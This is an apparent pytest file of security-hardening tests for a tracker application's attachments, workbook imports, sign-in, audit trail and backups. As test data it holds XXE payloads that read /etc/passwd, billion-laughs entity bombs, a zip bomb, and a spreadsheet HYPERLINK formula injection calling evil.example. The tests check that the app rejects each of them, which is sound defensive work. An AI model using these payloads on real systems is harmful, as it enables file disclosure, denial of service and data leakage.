"""Hardening (issue 14): hostile files, a database written behind the app's back, backups and
restores that race or are doctored, sign-in that tells nothing, and imports that lock no one out."""

from __future__ import annotations

import io
import json
import sqlite3
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests import factories as f
from tests import files
from tests.conftest import context_for, write_behind_the_app
from tracker.domain.permissions import Role
from tracker.domain.problems import RuleViolation
from tracker.i18n import t
from tracker.inputs import ledger_reader
from tracker.outputs import audit_csv
from tracker.outputs.xlsx_report import header_footer_text
from tracker.services import attachments, audit, backup, ledger_import, users
from tracker.services.context import Busy
from tracker.store import audit_seal, connection


# --- 11. attachments are parsed, not sniffed

@pytest.mark.parametrize(("name", "data"), [
    ("fake.pdf", b"%PDF-1.7\n" + b"MZ\x90\x00" + b"\x00" * 200),  # a PDF header followed by an executable
    ("fake.docx", None),  # any zip
    ("fake.xlsx", None),
    ("fake.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64),
    ("fake.jpg", b"\xff\xd8\xff\xe0" + b"0" * 10),
])
def test_an_attachment_must_parse_as_what_its_name_says(ctx, name, data):
    if data is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as package:
            package.writestr("payload.exe", b"MZ" + b"\x00" * 100)
        data = buffer.getvalue()
    with pytest.raises(RuleViolation) as refused:
        attachments.store(ctx, name, data)
    assert [p.code for p in refused.value.problems] == ["error.attachment.content_mismatch"]


def test_real_files_of_every_kind_are_accepted(ctx):
    for name, data in (("a.pdf", files.pdf("x")), ("a.png", files.png()), ("a.jpeg", files.jpeg()),
                       ("a.docx", files.docx())):
        assert attachments.store(ctx, name, data)


# --- 3, 4. workbooks: limits before reading, clear errors for hostile XML

def _party_ledger(*names: str) -> bytes:
    """A ledger workbook with a parties sheet of these names."""
    book = openpyxl.Workbook()
    book.active.title = t("ledger.sheet.parties")
    book.active.append([t("party.name")])
    for name in names:
        book.active.append([name])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _workbook_with_part(part: str, writer) -> bytes:
    """A real ledger workbook with one of its parts replaced by what ``writer`` streams into it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_party_ledger("株式会社アルファ"))) as original, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in original.infolist():
            if info.filename != part:
                copy.writestr(info, original.read(info.filename))
        with copy.open(part, "w") as handle:
            writer(handle)
    return out.getvalue()


def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(ctx, db_path):
    def huge_string(handle):
        handle.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
        block = b"A" * (1 << 20)
        for _ in range(ledger_reader.MAX_PART_BYTES // len(block) + 1):
            handle.write(block)
        handle.write(b"</t></si></sst>")

    data = _workbook_with_part("xl/sharedStrings.xml", huge_string)
    assert len(data) < 2 * 1024 * 1024  # a small file …
    started = time.monotonic()
    result = ledger_import.import_ledger(ctx, data, dry_run=True)
    assert time.monotonic() - started < 10  # … refused without reading it (a full read took 73 s)
    assert [i.problem.code for i in result.issues] == ["error.import.too_big"]


def test_a_cell_longer_than_any_field_is_named_and_nothing_is_imported(ctx, db_path):
    result = ledger_import.import_ledger(ctx, _party_ledger("長" * (ledger_reader.MAX_CELL + 1)))
    assert not result.applied
    assert [(i.row, i.column, i.problem.code) for i in result.issues] == [(2, t("party.name"), "error.too_long")]


SST = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2">'


@pytest.mark.parametrize(("part", "payload"), [
    ("xl/sharedStrings.xml", b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + SST
     + b"<si><t>&e;</t></si><si><t>x</t></si></sst>"),
    ("xl/sharedStrings.xml", b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">'
     b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>' + SST
     + b"<si><t>&c;</t></si><si><t>x</t></si></sst>"),
    ("xl/workbook.xml", b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
     b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&e;</workbook>'),
    ("xl/worksheets/sheet1.xml", b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
     b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet '
     b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" '
     b't="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>'),
], ids=["xxe-strings", "billion-laughs", "xxe-workbook", "entities-in-sheet"])
def test_hostile_xml_in_a_workbook_is_a_clear_error_not_a_traceback(ctx, part, payload):
    data = _workbook_with_part(part, lambda handle: handle.write(payload))
    result = ledger_import.import_ledger(ctx, data)
    assert not result.applied
    assert [i.problem.code for i in result.issues] == ["error.import.not_a_workbook"]


# --- 2. a large import locks no one out

def test_a_dry_run_holds_no_write_lock(ctx, db_path, monkeypatch):
    monkeypatch.setattr(connection, "BUSY_TIMEOUT_MS", 200)
    ledger = _party_ledger("株式会社アルファ")
    holder = sqlite3.connect(db_path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # someone is saving (or importing) right now
    try:
        result = ledger_import.import_ledger(ctx, ledger, dry_run=True)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert not result.issues and [c.action for c in result.changes] == ["create"]


def test_a_save_while_someone_imports_says_busy_and_writes_nothing(ctx, db_path, monkeypatch):
    monkeypatch.setattr(connection, "BUSY_TIMEOUT_MS", 200)
    holder = sqlite3.connect(db_path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        with pytest.raises(Busy):
            f.party(ctx, "待たされる株式会社")
    finally:
        holder.execute("ROLLBACK")
        holder.close()


def test_sign_in_waits_out_an_import_instead_of_failing(db_path, monkeypatch):
    monkeypatch.setattr(connection, "BUSY_TIMEOUT_MS", 200)  # everything else would give up after 0.2 s
    users.create_user(context_for(db_path, Role.ADMIN), users.UserInput("alice", "Alice", "manager",
                                                                        password="correct horse battery"))
    holder = sqlite3.connect(db_path, isolation_level=None, check_same_thread=False)
    holder.execute("BEGIN IMMEDIATE")
    releaser = threading.Timer(1.5, lambda: (holder.execute("ROLLBACK"), holder.close()))
    releaser.start()
    try:
        assert users.sign_in(db_path, "alice", "correct horse battery").username == "alice"
    finally:
        releaser.join()


# --- 8, 9. sign-in tells nothing, is throttled, and keeps names short

def test_every_refusal_costs_one_password_check_whatever_the_account(db_path, monkeypatch):
    admin = context_for(db_path, Role.ADMIN)
    for name in ("real", "locked", "disabled"):
        users.create_user(admin, users.UserInput(name, name, "manager", password="correct horse battery"))
    users.create_user(admin, users.UserInput("sso", "SSO only", "manager", email="sso@example.jp"))
    for _ in range(5):
        with pytest.raises(users.SignInRefused):
            users.sign_in(db_path, "locked", "wrong")
    disabled = next(u for u in users.list_users(admin) if u["username"] == "disabled")
    users.update_user(admin, disabled["id"], disabled["version"], "manager", False, "disabled")
    checks = []
    real_verify = users._verify
    monkeypatch.setattr(users, "_verify", lambda *args: checks.append(1) or real_verify(*args))
    for name, password in (("real", "wrong"), ("nobody", "wrong"), ("sso", "wrong"), ("locked", "wrong"),
                           ("disabled", "correct horse battery")):
        checks.clear()
        with pytest.raises(users.SignInRefused):
            users.sign_in(db_path, name, password, session=name)
        assert checks == [1], name  # the same work, so the same time, for every kind of refusal


def test_failed_sign_ins_are_throttled_per_name_and_per_session(db_path):
    for attempt in range(10):
        with pytest.raises(users.SignInRefused, match="invalid"):
            users.sign_in(db_path, "ghost", f"guess {attempt}", session="s1")
    with pytest.raises(users.SignInRefused, match="throttled"):  # the name, from any session
        users.sign_in(db_path, "ghost", "one more", session="s2")
    for attempt in range(20):
        with pytest.raises(users.SignInRefused, match="invalid"):
            users.sign_in(db_path, f"name{attempt}", "x", session="s3")
    with pytest.raises(users.SignInRefused, match="throttled"):  # the session, whatever the name
        users.sign_in(db_path, "yet another", "x", session="s3")


def test_failed_sign_ins_in_another_process_count_towards_the_same_limit(db_path):
    # two app processes behind the proxy: five failures in each, and the name is throttled in both
    other = ("import sys; from pathlib import Path; from tracker.services import users\n"
             "for n in range(5):\n"
             "    try: users.sign_in(Path(sys.argv[1]), 'ghost', f'other {n}', session='elsewhere')\n"
             "    except users.SignInRefused as refused: assert refused.reason == 'invalid', refused.reason\n")
    subprocess.run([sys.executable, "-c", other, str(db_path)], check=True, timeout=120)
    for attempt in range(5):
        with pytest.raises(users.SignInRefused, match="invalid"):
            users.sign_in(db_path, "ghost", f"here {attempt}", session="here")
    with pytest.raises(users.SignInRefused, match="throttled"):
        users.sign_in(db_path, "Ghost", "one more", session="a third")


def test_a_huge_user_name_is_cut_before_it_is_stored(db_path):
    with pytest.raises(users.SignInRefused):
        users.sign_in(db_path, "=HYPERLINK(" + "x" * 1_000_000, "pw", session="big")
    with connection.reading(db_path) as db:
        stored = db.execute("SELECT max(length(username)) FROM audit_log").fetchone()[0]
    assert stored <= 64


@pytest.mark.parametrize("password", [" " * 12, "aaaaaaaaaaaa", "password1234"])
def test_weak_passwords_are_refused_by_the_strength_estimator(db_path, password):
    with pytest.raises(RuleViolation) as refused:
        users.create_user(context_for(db_path, Role.ADMIN), users.UserInput("carol", "Carol", "manager",
                                                                            password=password))
    assert "error.password.too_weak" in {p.code for p in refused.value.problems}


def test_the_audit_csv_never_carries_a_formula(db_path):
    with pytest.raises(users.SignInRefused):
        users.sign_in(db_path, '=HYPERLINK("http://evil.example/"&A2,"click")', "x")
    text = audit_csv.write(audit.export_rows(context_for(db_path, Role.MANAGER), audit.AuditFilter())).decode("utf-8-sig")
    usernames = [line.split(",")[2] for line in text.splitlines()[1:]]
    assert usernames and all(not u.lstrip('"').startswith(("=", "+", "-", "@")) for u in usernames)
    assert any(u.lstrip('"').startswith("'=HYPERLINK") for u in usernames)


def test_an_ampersand_in_a_print_header_prints_as_itself():
    assert header_footer_text("A&B商事") == "A&&B商事"


# --- 7. the audit trail cannot be rewritten by whoever can write the file

@pytest.fixture
def trail(ctx, db_path):
    for name in ("A", "B", "C", "D"):
        f.party(ctx, name)
    assert audit.verify_chain(db_path) == (None, 4)
    return db_path


def test_cutting_the_tail_and_moving_the_head_is_noticed(trail):
    with connection.reading(trail) as db:
        third = db.execute("SELECT hash FROM audit_log WHERE id = 3").fetchone()[0]
    write_behind_the_app(trail, "DELETE FROM audit_log WHERE id = 4", f"UPDATE settings SET value = '{third}' WHERE key = 'audit_head'",
         "DELETE FROM parties WHERE name = 'D'")
    broken, _ = audit.verify_chain(trail)
    assert broken is not None and broken.reason == "truncated"  # the head outside the database says 4


def test_an_edited_record_with_its_chain_recomputed_without_the_key_is_noticed(trail):
    from tracker.domain.audit_chain import GENESIS, AuditRecord, record_hash

    with connection.reading(trail) as db:
        rows = [AuditRecord(*r) for r in db.execute(
            "SELECT id, at, username, action, table_name, row_id, before, after, prev_hash, hash FROM audit_log "
            "ORDER BY id").fetchall()]
    statements, previous = [], GENESIS
    for r in rows:  # an attacker's rewrite: plain SHA-256, as the chain used to be
        after = r.after.replace('"A"', '"Z"') if r.id == 1 else r.after
        digest = record_hash(r.id, r.at, r.username, r.action, r.table_name, r.row_id, r.before, after, previous)
        statements.append(f"UPDATE audit_log SET after = '{after}', prev_hash = '{previous}', hash = '{digest}' "
                          f"WHERE id = {r.id}")
        previous = digest
    statements.append(f"UPDATE settings SET value = '{previous}' WHERE key = 'audit_head'")
    write_behind_the_app(trail, *statements)
    broken, _ = audit.verify_chain(trail)
    assert (broken.record_id, broken.reason) == (1, "edited")


def test_deleting_every_record_and_the_head_is_noticed(trail):
    write_behind_the_app(trail, "DELETE FROM audit_log", "DELETE FROM settings WHERE key = 'audit_head'")
    broken, checked = audit.verify_chain(trail)
    assert checked == 0 and broken is not None


def test_rows_changed_without_a_record_are_named(ctx, trail):
    _, _, links = f.chain(ctx, 2)
    assert audit.unrecorded_changes(trail) == []
    write_behind_the_app(trail, "UPDATE parties SET name = '改ざん株式会社' WHERE name = 'B'",
         f"UPDATE approvals SET status = 'approved' WHERE engagement_id = {links[1]}",
         "INSERT INTO businesses (name, owner_department, created_at, created_by, updated_at, updated_by) "
         "VALUES ('闇の業務', '不明', 'now', 'x', 'now', 'x')")
    changed = {(c.table_name, c.columns) for c in audit.unrecorded_changes(trail)}
    assert changed == {("parties", ("name",)), ("approvals", ("status",)), ("businesses", ("*",))}
    assert audit.verify_chain(trail)[0] is None  # the chain itself is whole: rows are a separate check


def test_a_missing_key_is_said_plainly(trail):
    audit_seal.key_path(trail).unlink()
    audit_seal._cached_key.cache_clear()
    with pytest.raises(audit_seal.AuditKeyMissing, match="missing"):
        audit.verify_chain(trail)


# --- 5. backups: no temporary files, no partial archive under the final name

def test_a_backup_leaves_out_files_being_written_and_lists_every_hash(ctx, db_path, tmp_path):
    stored = attachments.store(ctx, "a.pdf", files.pdf("backed up"))
    sha = attachments.get(ctx, stored).sha256
    folder = attachments.folder(db_path) / sha[:2]
    (folder / "tmpabc123").write_bytes(b"half a file")  # an attachment being written right now
    manifest = backup.backup(db_path, tmp_path / "b.tar.gz")
    assert manifest["attachment_sha256"] == {f"{sha[:2]}/{sha}": sha}
    with tarfile.open(tmp_path / "b.tar.gz") as archive:
        assert not [n for n in archive.getnames() if "tmp" in n]


def test_a_backup_that_fails_half_way_leaves_no_archive(ctx, db_path, tmp_path, monkeypatch):
    attachments.store(ctx, "a.pdf", files.pdf("one"))
    attachments.store(ctx, "b.pdf", files.pdf("two"))
    calls = []

    def failing_add(self, *args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise OSError("disk full")
        return original_add(self, *args, **kwargs)

    original_add = tarfile.TarFile.add
    monkeypatch.setattr(tarfile.TarFile, "add", failing_add)
    out = tmp_path / "backups" / "b.tar.gz"
    with pytest.raises(OSError, match="disk full"):
        backup.backup(db_path, out)
    assert list(out.parent.iterdir()) == []  # neither the archive nor a partial one


# --- 4, 6. restores check everything first, and say why in words

def _archive(ctx, db_path, tmp_path) -> Path:
    f.party(ctx, "A")
    attachments.store(ctx, "a.pdf", files.pdf("restore me"))
    out = tmp_path / "b.tar.gz"
    backup.backup(db_path, out)
    return out


def _rewrite(archive: Path, change) -> Path:
    """Unpack, let ``change`` edit the staged files, pack again (a doctored archive)."""
    work = archive.parent / "doctor"
    with tarfile.open(archive) as source:
        source.extractall(work, filter="data")
    change(work)
    doctored = archive.parent / "doctored.tar.gz"
    with tarfile.open(doctored, "w:gz") as target:
        for path in sorted(work.rglob("*")):
            if path.is_file():
                target.add(path, path.relative_to(work).as_posix())
    return doctored


def _reseal_manifest(work: Path) -> None:
    manifest = json.loads((work / "manifest.json").read_text())
    manifest["database_sha256"] = backup._sha256(work / "tracker.db")
    (work / "manifest.json").write_text(json.dumps(manifest))


def _restore_refused(archive: Path, target: Path, key: bytes, match: str) -> None:
    with pytest.raises(backup.RestoreRefused, match=match):
        backup.restore(archive, target, key)
    assert not target.exists() and not attachments.folder(target).exists()  # nothing written


def test_a_tampered_trail_in_an_archive_is_refused_before_anything_is_written(ctx, db_path, tmp_path):
    archive = _archive(ctx, db_path, tmp_path)

    def tamper(work):
        write_behind_the_app(work / "tracker.db", "UPDATE audit_log SET username = 'mallory' WHERE id = 1")
        _reseal_manifest(work)

    _restore_refused(_rewrite(archive, tamper), tmp_path / "r" / "tracker.db", audit_seal.key(db_path), "audit")


def test_a_file_that_is_not_sqlite_is_refused(ctx, db_path, tmp_path):
    archive = _archive(ctx, db_path, tmp_path)

    def replace(work):
        (work / "tracker.db").write_bytes(b"not a database at all" * 100)
        _reseal_manifest(work)

    _restore_refused(_rewrite(archive, replace), tmp_path / "r" / "tracker.db", audit_seal.key(db_path),
                     "not a tracker database")


def _first_attachment(work: Path) -> Path:
    return next(p for p in (work / "attachments").rglob("*") if p.is_file())


@pytest.mark.parametrize(("change", "match"), [
    (lambda work: _first_attachment(work).unlink(), "attachments differ"),
    (lambda work: _first_attachment(work).write_bytes(files.pdf("swapped")), "does not match its hash"),
], ids=["dropped", "swapped"])
def test_attachments_dropped_or_swapped_are_refused(ctx, db_path, tmp_path, change, match):
    archive = _archive(ctx, db_path, tmp_path)
    _restore_refused(_rewrite(archive, change), tmp_path / "r" / "tracker.db", audit_seal.key(db_path), match)


def test_a_truncated_archive_and_a_broken_manifest_get_clear_errors(ctx, db_path, tmp_path):
    archive = _archive(ctx, db_path, tmp_path)
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(archive.read_bytes()[: archive.stat().st_size // 2])
    _restore_refused(cut, tmp_path / "r1" / "tracker.db", audit_seal.key(db_path), "damaged or cut short")
    not_json = _rewrite(archive, lambda work: (work / "manifest.json").write_bytes(b"\xff\xfe not json"))
    _restore_refused(not_json, tmp_path / "r2" / "tracker.db", audit_seal.key(db_path), "manifest")
    no_key = _rewrite(archive, lambda work: (work / "manifest.json").write_text("{}"))
    _restore_refused(no_key, tmp_path / "r3" / "tracker.db", audit_seal.key(db_path), "manifest")


def test_a_good_archive_restores_with_its_key_and_verifies(ctx, db_path, tmp_path):
    archive = _archive(ctx, db_path, tmp_path)
    target = tmp_path / "r" / "tracker.db"
    with pytest.raises(backup.RestoreRefused, match="audit key"):  # no key given, none in place
        backup.restore(archive, target)
    backup.restore(archive, target, audit_seal.key(db_path))
    assert audit.verify_chain(target)[0] is None and audit.unrecorded_changes(target) == []
    assert audit_seal.key_path(target).stat().st_mode & 0o777 == 0o600
